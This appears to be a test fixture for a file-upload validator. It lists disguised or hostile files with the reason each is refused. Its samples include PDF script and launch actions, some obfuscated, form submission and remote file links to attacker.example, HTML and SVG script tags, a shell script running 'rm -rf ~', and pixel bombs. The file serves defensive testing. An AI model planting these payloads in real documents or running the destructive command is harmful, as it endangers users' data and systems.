import { joined } from '../pictures/bytes.ts';
import { bytesOf, chunk, frame, header, jpeg, png, scan, segment } from '../pictures/testing.ts';

const DATA = chunk('IDAT', 'data');
const END = chunk('IEND');
const CATALOG =
  '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n';
const TRAILER = 'trailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n0\n%%EOF\n';

/** The smallest file a reader opens. `more` is added as further objects. */
export const pdf = (more = '', start = '%PDF-1.7\n', end = TRAILER): Uint8Array<ArrayBuffer> =>
  joined([bytesOf(`${start}${CATALOG}${more}${end}`)]);

const object = (words: string) => pdf(`3 0 obj\n<< ${words} >>\nendobj\n`);
const zip = bytesOf('PK\x03\x04\x14\0\0\0');

const ANOTHER = 'is not a JPEG, PNG or PDF';
const BROKEN = 'cannot be read';
const ACTIVE = 'contains a script or another file';

/** Hostile or disguised files: what each one is, its bytes, and why it is refused. */
export const HOSTILE_FILES: [what: string, bytes: Uint8Array<ArrayBuffer>, why: string][] = [
  ['a PDF with a script', object('/S /JavaScript /JS (app.alert(1))'), ACTIVE],
  ['a PDF with a script that runs when it opens', object('/OpenAction << /S/JavaScript/JS(x) >>'), ACTIVE],
  ['a PDF whose script hides behind a number', object('/S /J#61vaScript /JS (x)'), ACTIVE],
  ['a PDF whose script hides behind many numbers', object('/S /#4A#61#76#61#53#63#72#69#70#74'), ACTIVE],
  ['a PDF whose script stands at a line’s end', object('/S /JavaScript\r\n/JS (x)'), ACTIVE],
  ['a PDF with a tree of scripts', object('/Names << /JavaScript 4 0 R >>'), ACTIVE],
  ['a PDF that starts a program', object('/S /Launch /F (cmd.exe)'), ACTIVE],
  ['a PDF that starts a program, by numbers', object('/S /L#61unch /F (cmd.exe)'), ACTIVE],
  ['a PDF that carries a file', object('/Type /EmbeddedFile /Length 4'), ACTIVE],
  ['a PDF that carries many files', object('/Names << /EmbeddedFiles 4 0 R >>'), ACTIVE],
  ['a PDF that plays something', object('/Subtype /RichMedia'), ACTIVE],
  ['a PDF that sends a form away', object('/S /SubmitForm /F (https://attacker.example)'), ACTIVE],
  ['a PDF that fills itself', object('/S /ImportData /F (a.fdf)'), ACTIVE],
  ['a PDF that opens what it carries', object('/S /GoToE /T << >>'), ACTIVE],
  ['a PDF that opens a file elsewhere', object('/S /GoToR /F (\\\\attacker.example\\share\\a.pdf)'), ACTIVE],
  ['a PDF that runs a script when something plays', object('/S /Rendition /JS (app.alert(1))'), ACTIVE],
  ['a PDF that runs what plays', object('/S /RichMediaExecute /CMD << >>'), ACTIVE],
  ['a PDF with a form of scripts', object('/AcroForm << /XFA 4 0 R >>'), ACTIVE],
  ['a PDF whose script was added behind its end', joined([pdf(), object('/S /JavaScript')]), ACTIVE],
  ['a PDF that was cut', pdf('', '%PDF-1.7\n', 'trailer'), BROKEN],
  ['a PDF of one line', joined([bytesOf('%PDF-1.7')]), BROKEN],
  ['a page that says it is a PDF', joined([bytesOf('%PDF-1.7\n<html><script>alert(1)</script>')]), BROKEN],
  ['an archive behind a PDF', joined([pdf(), zip, new Uint8Array(2_000)]), BROKEN],
  ['a page behind a PDF', joined([pdf(), bytesOf(`<script>${' '.repeat(2_000)}</script>`)]), BROKEN],
  ['a PDF behind a page', pdf('', '<!doctype html>\n%PDF-1.7\n'), ANOTHER],
  ['a PDF behind an archive', joined([zip, pdf()]), ANOTHER],
  ['a PDF behind a byte order mark', joined([bytesOf('\xef\xbb\xbf'), pdf()]), ANOTHER],
  ['a PDF in capitals alone', pdf('', '%pdf-1.7\n'), ANOTHER],
  ['nothing', new Uint8Array(0), ANOTHER],
  ['a page', joined([bytesOf('<!doctype html><script>alert(1)</script>')]), ANOTHER],
  [
    'a drawing with a script',
    joined([bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>')]),
    ANOTHER,
  ],
  ['a form for Adobe’s reader', joined([bytesOf('<?xml version="1.0"?><xdp:xdp/>')]), ANOTHER],
  ['PostScript', joined([bytesOf('%!PS-Adobe-3.0 EPSF-3.0')]), ANOTHER],
  ['a Word document', joined([bytesOf('PK\x03\x04[Content_Types].xml')]), ANOTHER],
  ['an old Word document with macros', joined([bytesOf('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')]), ANOTHER],
  ['a text with a macro', joined([bytesOf('{\\rtf1{\\object\\objocx}}')]), ANOTHER],
  ['a program', joined([bytesOf('MZ\x90\0')]), ANOTHER],
  ['a program for Linux', joined([bytesOf('\x7fELF\x02')]), ANOTHER],
  ['a shell script', joined([bytesOf('#!/bin/sh\nrm -rf ~')]), ANOTHER],
  ['a shortcut', joined([bytesOf('L\0\0\0\x01\x14\x02\0')]), ANOTHER],
  ['a GIF', joined([bytesOf('GIF89a')]), ANOTHER],
  ['a WebP', joined([bytesOf('RIFF\0\0\0\0WEBP')]), ANOTHER],
  ['a HEIC', joined([bytesOf('\0\0\0\x18ftypheic')]), ANOTHER],
  ['a page with a picture’s start', joined([bytesOf('\xff\xd8\xff<script>x</script>')]), BROKEN],
  ['a JPEG that was cut', joined([jpeg().subarray(0, -2)]), BROKEN],
  ['a JPEG that never begins to draw', joined([jpeg([], [])]), BROKEN],
  ['a JPEG of tables', joined([jpeg(Array.from({ length: 2_000 }, () => segment(0xdb, '')))]), BROKEN],
  ['a bomb of a JPEG', joined([jpeg([], [frame(60_000, 60_000), scan()])]), 'has too many pixels'],
  ['a PNG that was cut', joined([png().subarray(0, -12)]), BROKEN],
  ['a PNG with a part that nobody knows', png([header(8, 8), chunk('EVIL', 'x'), DATA, END]), BROKEN],
  ['a bomb of a PNG', png([header(100_000, 100_000), DATA, END]), 'has too many pixels'],
] as [string, Uint8Array<ArrayBuffer>, string][];
